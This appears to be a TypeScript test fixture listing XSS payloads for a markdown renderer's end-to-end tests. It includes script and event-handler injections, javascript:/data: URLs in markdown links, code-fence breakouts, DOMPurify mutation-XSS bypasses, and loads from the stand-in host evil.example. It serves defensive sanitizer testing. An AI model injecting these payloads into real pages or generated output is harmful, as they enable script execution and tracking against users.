// XSS payloads for the markdown renderer's browser tests (test/e2e/markdownXss.e2e.test.ts). Every payload that
// would run script calls alert() (the page's sentinel records it) or reaches for https://evil.example (the page's
// router records and aborts every request that is not the page itself). Classics from the OWASP XSS filter evasion
// cheat sheet, the HTML5 Security Cheatsheet and published DOMPurify mutation-XSS bypasses, plus markdown-specific
// link/image/fence tricks.

export interface Payload {
  name: string;
  text: string;
}

const raw: [string, string][] = [
  // script tags
  ['script tag', '<script>alert(1)</script>'],
  ['script src', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>'],
  ['script split by nesting', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
  ['script in markdown paragraph', 'Hello <script>alert(1)</script> world'],
  ['script after heading', '# Title\n<script>alert(1)</script>'],
  // event handlers
  ['img onerror', '<img src=x onerror=alert(1)>'],
  ['img onerror no quotes slash', '<img/src="x"/onerror=alert(1)>'],
  ['svg onload', '<svg onload=alert(1)>'],
  ['body onload', '<body onload=alert(1)>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>x</summary></details>'],
  ['input autofocus onfocus', '<input autofocus onfocus=alert(1)>'],
  ['marquee onstart', '<marquee onstart=alert(1)>x</marquee>'],
  ['audio onerror', '<audio src=x onerror=alert(1)>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['anchor onclick with good href', '<a href="https://ok.example" onclick="alert(1)">ok</a>'],
  ['custom element onfocus', '<xss id=x tabindex=1 onfocus=alert(1) autofocus>x</xss>'],
  ['frameset onload', '<frameset onload=alert(1)>'],
  ['bare tag attribute smuggled', '<b onmouseover=alert(1)>bold</b> and <br onload=alert(1)>'],
  // javascript:, data:, vbscript: in markdown links, images, autolinks, references
  ['markdown link javascript', '[click](javascript:alert(1))'],
  ['markdown link mixed case', '[click](JaVaScRiPt:alert(1))'],
  ['markdown link angle brackets', '[click](<javascript:alert(1)>)'],
  ['markdown link entity obfuscated', '[click](&#106;avascript:alert(1))'],
  ['markdown link tab entity', '[click](java&#x09;script:alert(1))'],
  ['markdown link colon entity', '[click](javascript&colon;alert(1))'],
  ['markdown link data html', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['markdown link vbscript', '[click](vbscript:msgbox(1))'],
  ['markdown image javascript', '![img](javascript:alert(1))'],
  ['markdown image data svg', '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['markdown image remote', '![tracking pixel](https://evil.example/pixel.png)'],
  ['autolink javascript', '<javascript:alert(1)>'],
  ['autolink vbscript', '<vbscript:msgbox(1)>'],
  ['autolink data', '<data:text/html,<script>alert(1)</script>>'],
  ['reference link javascript', '[x][r]\n\n[r]: javascript:alert(1)'],
  ['reference image remote', '![x][r]\n\n[r]: https://evil.example/i.png'],
  ['reference definition first', '[r]: javascript:alert(1) "t"\n\nSee [it][r].'],
  ['link title breakout', '[a](https://ok.example "t\\" onmouseover=\\"alert(1)")'],
  ['link text html', '[<img src=x onerror=alert(1)>](https://ok.example)'],
  ['nested image link', '[![x](javascript:alert(1))](javascript:alert(2))'],
  ['gfm www autolink with script', 'www.evil.example/<script>alert(1)</script>'],
  ['html anchor data url', '<a href="data:text/html,<script>alert(1)</script>">d</a>'],
  ['html anchor leading space and newline', '<a href=" jav&#x0A;ascript:alert(1)">x</a>'],
  // SVG and MathML
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['svg animate onbegin', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>'],
  ['svg animate href', '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>click</text></a></svg>'],
  ['svg use data href', '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' onerror=\'alert(1)\' /></svg>#x" /></svg>'],
  ['svg foreignObject iframe', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['math href', '<math href="javascript:alert(1)">click</math>'],
  ['xlink href', '<a href="#" xlink:href="javascript:alert(1)">x</a>'],
  // embedding, forms, navigation, styles
  ['iframe javascript', '<iframe src="javascript:alert(1)"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object data', '<object data="javascript:alert(1)"></object>'],
  ['object remote', '<object type="text/html" data="https://evil.example/"></object>'],
  ['embed data', '<embed src="data:text/html,<script>alert(1)</script>">'],
  ['form action', '<form action="javascript:alert(1)"><button>go</button></form>'],
  ['button formaction', '<button formaction="javascript:alert(1)">x</button>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'],
  ['base href', '<base href="https://evil.example/">\n\n[relative](page.html)'],
  ['link import', '<link rel=import href=https://evil.example/x.html>'],
  ['link stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>'],
  ['style tag url', "<style>@import 'https://evil.example/x.css'; body{background:url(https://evil.example/bg.png)}</style>"],
  ['style attribute url', '<div style="background:url(https://evil.example/x)">x</div>'],
  ['style attribute javascript', '<p style="background-image:url(javascript:alert(1))">x</p>'],
  ['img srcset', '<img srcset="https://evil.example/a.png 1x">'],
  ['video poster', '<video poster=https://evil.example/p.png></video>'],
  ['template', '<template><img src=x onerror=alert(1)></template>'],
  ['html comment trick', '<!--><img src=x onerror=alert(1)>-->'],
  ['cdata trick', '<![CDATA[<img src=x onerror=alert(1)>]]>'],
  // raw HTML in and around code fences, inline code
  ['inline code script', 'Use `<script>alert(1)</script>` carefully'],
  ['html inside fence', '```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```'],
  ['fence broken by html', '<div>\n```\n</div><script>alert(1)</script>\n```\n'],
  ['unclosed fence with html', 'Text\n\n```\n<img src=x onerror=alert(1)>\n<script>alert(1)</script>'],
  ['fence info string injection', '```js" onmouseover="alert(1)\nconst a = 1;\n```'],
  ['fence info string tag', '```<img src=x onerror=alert(1)>\nx\n```'],
  ['tilde fence closing early', '~~~\ncode\n~~~\n<img src=x onerror=alert(1)>\n~~~'],
  ['indented code html', '    <script>alert(1)</script>\n    <img src=x onerror=alert(1)>'],
  ['html around fence in list', '- item\n  ```\n  <svg onload=alert(1)>\n  ```\n<svg onload=alert(1)>'],
  ['table cell html', '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |'],
  ['blockquote html', '> <iframe src="https://evil.example/"></iframe>\n> [x](vbscript:msgbox(1))'],
  // DOMPurify mutation-XSS classics
  ['mxss noscript', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mxss title', '<title><img src=x onerror=alert(1)></title>'],
  ['mxss textarea', '<textarea><img src=x onerror=alert(1)></textarea>'],
  ['mxss math mglyph style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['mxss form math', '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'],
  ['mxss svg p style', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mxss xmp', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['mxss noembed', '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'],
  ['mxss svg style comment', '<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>'],
  ['dom clobbering', '<form name=getElementById></form><img name=body id=app>'],
];

export const XSS_PAYLOADS: readonly Payload[] = raw.map(([name, text]) => ({ name, text }));

/** A payload inside ordinary model output, so it also meets the block boundaries around it. */
export function inContext(p: Payload): string {
  return `Here is what I found:\n\n${p.text}\n\nAnd some **more** text after it, with \`code\`.\n`;
}
